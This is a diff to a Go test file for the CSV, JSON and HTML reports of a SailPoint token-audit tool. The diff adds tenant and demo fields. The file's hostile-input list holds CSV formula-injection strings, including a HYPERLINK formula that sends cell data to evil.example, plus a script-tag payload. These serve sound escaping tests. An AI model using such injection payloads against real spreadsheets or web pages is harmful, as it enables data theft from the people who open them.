@@ -9,6 +9,7 @@ import (
 	"html"
 	"io"
 	"regexp"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -51,22 +52,28 @@ func small() *lifecycle.Report {
 	}
 }
 
+type writer = func(io.Writer, *lifecycle.Report, report.Options) error
+
+var acme = report.Options{Tenant: "acme.api.identitynow.com"}
+
 // write returns the written text.
-func write(t *testing.T, to func(io.Writer, *lifecycle.Report) error, r *lifecycle.Report) string {
+func write(t *testing.T, to writer, r *lifecycle.Report) string {
 	t.Helper()
 	var out bytes.Buffer
-	require.NoError(t, to(&out, r))
+	require.NoError(t, to(&out, r, acme))
 	return out.String()
 }
 
-// TestNoReport checks that a nil report is an error, and that an empty report
-// is written.
+// TestNoReport checks that a nil report or an unnamed tenant is an error, and
+// that an empty report is written.
 func TestNoReport(t *testing.T) {
-	for name, to := range map[string]func(io.Writer, *lifecycle.Report) error{
+	for name, to := range map[string]writer{
 		"json": report.WriteJSON, "csv": report.WriteCSV, "html": report.WriteHTML,
 	} {
 		var out bytes.Buffer
-		require.ErrorIs(t, to(&out, nil), sailpoint.ErrInvalidArgument, name)
+		require.ErrorIs(t, to(&out, nil, acme), sailpoint.ErrInvalidArgument, name)
+		require.EqualError(t, to(&out, small(), report.Options{Tenant: " "}),
+			"sailpoint: invalid argument: Options.Tenant is empty: name the tenant that was audited", name)
 		require.Zero(t, out.Len(), name)
 		require.NotEmpty(t, write(t, to, &lifecycle.Report{}), name)
 	}
@@ -77,7 +84,7 @@ func TestJSON(t *testing.T) {
 	const nobody = `"owner":{"type":"IDENTITY","id":"o2","name":""}`
 	const full = `"token":{"id":"t1","name":"nightly","scope":["a","b"],` + ana + `,"created":"2025-07-01T12:30:00+01:00",` +
 		`"lastUsed":"2025-10-01T12:30:00+01:00","expirationDate":"2026-01-01T12:30:00+01:00","accessTokenValiditySeconds":900}`
-	want := `{"at":"2026-03-01T11:30:00Z",` +
+	want := `{"tenant":"acme.api.identitynow.com","demo":false,"at":"2026-03-01T11:30:00Z",` +
 		`"policy":{"neverUsedAfterSeconds":3600,"staleAfterSeconds":7200,"expiringWithinSeconds":10800,"maxBearerSeconds":14400,"nearLimit":8,"graceSeconds":18000},` +
 		`"tokens":12,"counts":{"expired":1,"near-limit":1,"no-expiry":1,"stale":1},` +
 		`"owners":[{` + ana + `,"tokens":9,"managed":1,"findings":3},{` + nobody + `,"tokens":2,"managed":0,"findings":1}],` +
@@ -89,11 +96,11 @@ func TestJSON(t *testing.T) {
 }
 
 func TestCSV(t *testing.T) {
-	assert.Equal(t, `kind,finding,token_id,token_name,owner_id,owner_name,created,last_used,expires,scope,bearer_seconds
-stale,Stale.,t1,nightly,o1,Ana,2025-07-01T11:30:00Z,2025-10-01T11:30:00Z,2026-01-01T11:30:00Z,a b,900
-expired,Expired.,t1,nightly,o1,Ana,2025-07-01T11:30:00Z,2025-10-01T11:30:00Z,2026-01-01T11:30:00Z,a b,900
-no-expiry,No expiry reported.,t2,,o2,,,,,,
-near-limit,Near.,,,o1,Ana,,,,,
+	assert.Equal(t, `tenant,time,demo,kind,finding,token_id,token_name,owner_id,owner_name,created,last_used,expires,scope,bearer_seconds
+acme.api.identitynow.com,2026-03-01T11:30:00Z,false,stale,Stale.,t1,nightly,o1,Ana,2025-07-01T11:30:00Z,2025-10-01T11:30:00Z,2026-01-01T11:30:00Z,a b,900
+acme.api.identitynow.com,2026-03-01T11:30:00Z,false,expired,Expired.,t1,nightly,o1,Ana,2025-07-01T11:30:00Z,2025-10-01T11:30:00Z,2026-01-01T11:30:00Z,a b,900
+acme.api.identitynow.com,2026-03-01T11:30:00Z,false,no-expiry,No expiry reported.,t2,,o2,,,,,,
+acme.api.identitynow.com,2026-03-01T11:30:00Z,false,near-limit,Near.,,,o1,Ana,,,,,
 `, write(t, report.WriteCSV, small()))
 }
 
@@ -105,10 +112,10 @@ var hostile = []string{
 	"x\u2028=1+1", "\u00a0=1+1", "\u3000＝1+1", "\u200b=1+1", "\ufeff=1+1", "\v=1+1", "\u0085=1+1", "\u009f@SUM(1)", " \t\r =1+1", "x;\u00a0=1+1", "﹦1+1", "\u22121+1", `=HYPERLINK("https://evil.example/?"&A1)`, strings.Repeat("long ", 1000), "",
 }
 
-// hostileReport has each hostile text in every place that an owner can choose.
-func hostileReport() *lifecycle.Report {
-	r := &lifecycle.Report{At: at, Tokens: len(hostile), Counts: map[lifecycle.Kind]int{lifecycle.FindingNoExpiry: len(hostile)}}
-	for _, text := range hostile {
+// reportOf has each text in every place that an owner can choose.
+func reportOf(texts []string) *lifecycle.Report {
+	r := &lifecycle.Report{At: at, Tokens: len(texts), Counts: map[lifecycle.Kind]int{lifecycle.FindingNoExpiry: len(texts)}}
+	for _, text := range texts {
 		owner := sailpoint.PersonalAccessTokenOwner{Type: text, ID: text, Name: text}
 		r.Owners = append(r.Owners, lifecycle.OwnerTotal{Owner: owner, Tokens: 9})
 		r.Findings = append(r.Findings,
@@ -121,7 +128,7 @@ func hostileReport() *lifecycle.Report {
 // TestHostileNamesInCSV checks that no cell is a formula. It covers programs
 // that split lines at commas, semicolons or tabs, with or without quotes.
 func TestHostileNamesInCSV(t *testing.T) {
-	out := write(t, report.WriteCSV, hostileReport())
+	out := write(t, report.WriteCSV, reportOf(hostile))
 	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
 	require.NoError(t, err)
 	require.Len(t, records, 1+2*len(hostile))
@@ -165,18 +172,18 @@ func TestIDsInCSVStayText(t *testing.T) {
 		}}}}
 		records, err := csv.NewReader(strings.NewReader(write(t, report.WriteCSV, r))).ReadAll()
 		require.NoError(t, err)
-		assert.Equal(t, []string{"", "", want, want, want, want, "", "", "", want, "43200"}, records[1], text)
+		assert.Equal(t, []string{"acme.api.identitynow.com", "2026-03-01T11:30:00Z", "false", "", "", want, want, want, want, "", "", "", want, "43200"}, records[1], text)
 	}
 }
 
 // TestCSVHasNoByteOrderMark guards most programs, which would treat a byte
 // order mark as part of the first title.
 func TestCSVHasNoByteOrderMark(t *testing.T) {
-	assert.True(t, strings.HasPrefix(write(t, report.WriteCSV, small()), "kind,"))
+	assert.True(t, strings.HasPrefix(write(t, report.WriteCSV, small()), "tenant,"))
 }
 
 func TestHostileNamesInJSON(t *testing.T) {
-	out := write(t, report.WriteJSON, hostileReport())
+	out := write(t, report.WriteJSON, reportOf(hostile))
 	assert.NotContains(t, out, "<")
 	assert.NotContains(t, out, ">")
 	assert.Contains(t, out, `"name": "\u003cscript\u003ealert(1)\u003c/script\u003e"`)
@@ -185,12 +192,17 @@ func TestHostileNamesInJSON(t *testing.T) {
 // TestHostileNamesInHTML checks that names are shown as text and add nothing to
 // the page.
 func TestHostileNamesInHTML(t *testing.T) {
-	out := write(t, report.WriteHTML, hostileReport())
+	out := write(t, report.WriteHTML, reportOf(hostile))
 	content := withoutAssets(t, out)
-	tags := regexp.MustCompile(`<(/?[a-zA-Z!][a-zA-Z0-9]*)`).FindAllStringSubmatch(content, -1)
-	for _, tag := range tags {
-		assert.Regexp(t, `^/?(!DOCTYPE|html|head|meta|link|title|style|body|header|main|section|h1|h2|p|strong|div|svg|line|text|rect|circle|i|b|button|span|ol|ul|li|bdi|em|label|input|select|option|output|table|thead|tbody|tr|th|td|code|script)$`, tag[1])
+	var harmless []string
+	for i, text := range hostile {
+		if text != "" {
+			text = strconv.Itoa(i)
+		}
+		harmless = append(harmless, text)
 	}
+	tags := regexp.MustCompile(`<(/?[a-zA-Z!][^\s>]*)`)
+	assert.Equal(t, tags.FindAllString(withoutAssets(t, write(t, report.WriteHTML, reportOf(harmless))), -1), tags.FindAllString(content, -1), "the same tags as with harmless names")
 	assert.Equal(t, 1, strings.Count(strings.ToLower(content), "<script"))
 	assert.Equal(t, 1, strings.Count(strings.ToLower(content), "</script"))
 	unquoted := regexp.MustCompile(`"[^"]*"`).ReplaceAllString(content, `""`)
@@ -228,6 +240,46 @@ func TestHTMLLoadsNothing(t *testing.T) {
 	content := withoutAssets(t, write(t, report.WriteHTML, small()))
 	assert.Equal(t, []string{`href="data:,"`}, regexp.MustCompile(`(?i)\b(?:src|href|srcset|action|data|poster|xlink:href)="[^"]*"`).FindAllString(content, -1))
 	assert.NotRegexp(t, `(?i)https?:|<iframe|<object|<embed|<base`, content)
+}
+
+// TestEveryFormatNamesTheDemo checks the marks of invented data, and that a
+// tenant's name is escaped like a token's.
+func TestEveryFormatNamesTheDemo(t *testing.T) {
+	demo := func(to writer) string {
+		var out bytes.Buffer
+		require.NoError(t, to(&out, small(), report.Options{Tenant: "=<b>", Demo: true}))
+		return out.String()
+	}
+	assert.Contains(t, demo(report.WriteJSON), `"tenant": "=\u003cb\u003e",`+"\n\t"+`"demo": true,`)
+	assert.Equal(t, 4, strings.Count(demo(report.WriteCSV), "\n'=<b>,2026-03-01T11:30:00Z,true,"))
+	page := demo(report.WriteHTML)
+	assert.Contains(t, page, `<title>DEMO: Personal access tokens of =&lt;b&gt;, 2026-03-01 11:30 UTC</title>`)
+	assert.Contains(t, page, `<h1><strong class="demo">DEMO</strong> Personal access tokens of <bdi>=&lt;b&gt;</bdi></h1>`)
+	assert.Contains(t, page, "This is a demo.")
+	assert.NotContains(t, withoutAssets(t, write(t, report.WriteHTML, small())), "demo")
+}
+
+// TestHTMLShowsTheLimits checks the units of the policy's limits.
+func TestHTMLShowsTheLimits(t *testing.T) {
+	limits := func(p lifecycle.AuditPolicy) (texts []string) {
+		page := withoutAssets(t, write(t, report.WriteHTML, &lifecycle.Report{At: at, Policy: p}))
+		for _, found := range regexp.MustCompile(`<dt>(.*?)</dt><dd>(.*?)</dd>`).FindAllStringSubmatch(page, -1) {
+			texts = append(texts, found[1]+": "+found[2])
+		}
+		return texts
+	}
+	const day = 24 * time.Hour
+	assert.Equal(t, []string{
+		"Owners: all", "Never used: after 30 days", "Long unused: after 90 days", "Expires soon: within 1 day",
+		"Long bearers: over 12 hours", "Owner near the limit: from 8 tokens", "Unfinished rotation: at any age",
+	}, limits(lifecycle.AuditPolicy{NeverUsedAfter: 30 * day, StaleAfter: 90 * day, ExpiringWithin: day, MaxBearer: 12 * time.Hour, NearLimit: 8}))
+	assert.Equal(t, []string{
+		"Owners: only &lt;me&gt;", "Never used: after 36 hours", "Long unused: after 90 minutes", "Expires soon: within 1.5 seconds",
+		"Long bearers: over 1 minute", "Owner near the limit: from 1 tokens", "Unfinished rotation: after 1 hour",
+	}, limits(lifecycle.AuditPolicy{
+		OwnerID: "<me>", NeverUsedAfter: 36 * time.Hour, StaleAfter: 90 * time.Minute, ExpiringWithin: 1500 * time.Millisecond,
+		MaxBearer: time.Minute, NearLimit: 1, Grace: time.Hour,
+	}))
 }
 
 func TestHTMLShowsTheReport(t *testing.T) {
@@ -278,12 +330,12 @@ func TestReportOfATenant(t *testing.T) {
 	require.NoError(t, err)
 	r, err := lifecycle.Audit(t.Context(), client, lifecycle.AuditPolicy{})
 	require.NoError(t, err)
-	for name, to := range map[string]func(io.Writer, *lifecycle.Report) error{"JSON": report.WriteJSON, "CSV": report.WriteCSV, "HTML": report.WriteHTML} {
+	for name, to := range map[string]writer{"JSON": report.WriteJSON, "CSV": report.WriteCSV, "HTML": report.WriteHTML} {
 		out := write(t, to, r)
 		assert.Contains(t, out, tenant.Config().ClientID, name)
 		assert.NotContains(t, out, tenant.Config().ClientSecret.Reveal(), name)
 		broken := errors.New("disk full")
-		assert.ErrorIs(t, to(failingWriter{broken}, r), broken, name)
+		assert.ErrorIs(t, to(failingWriter{broken}, r, acme), broken, name)
 	}
 }
 
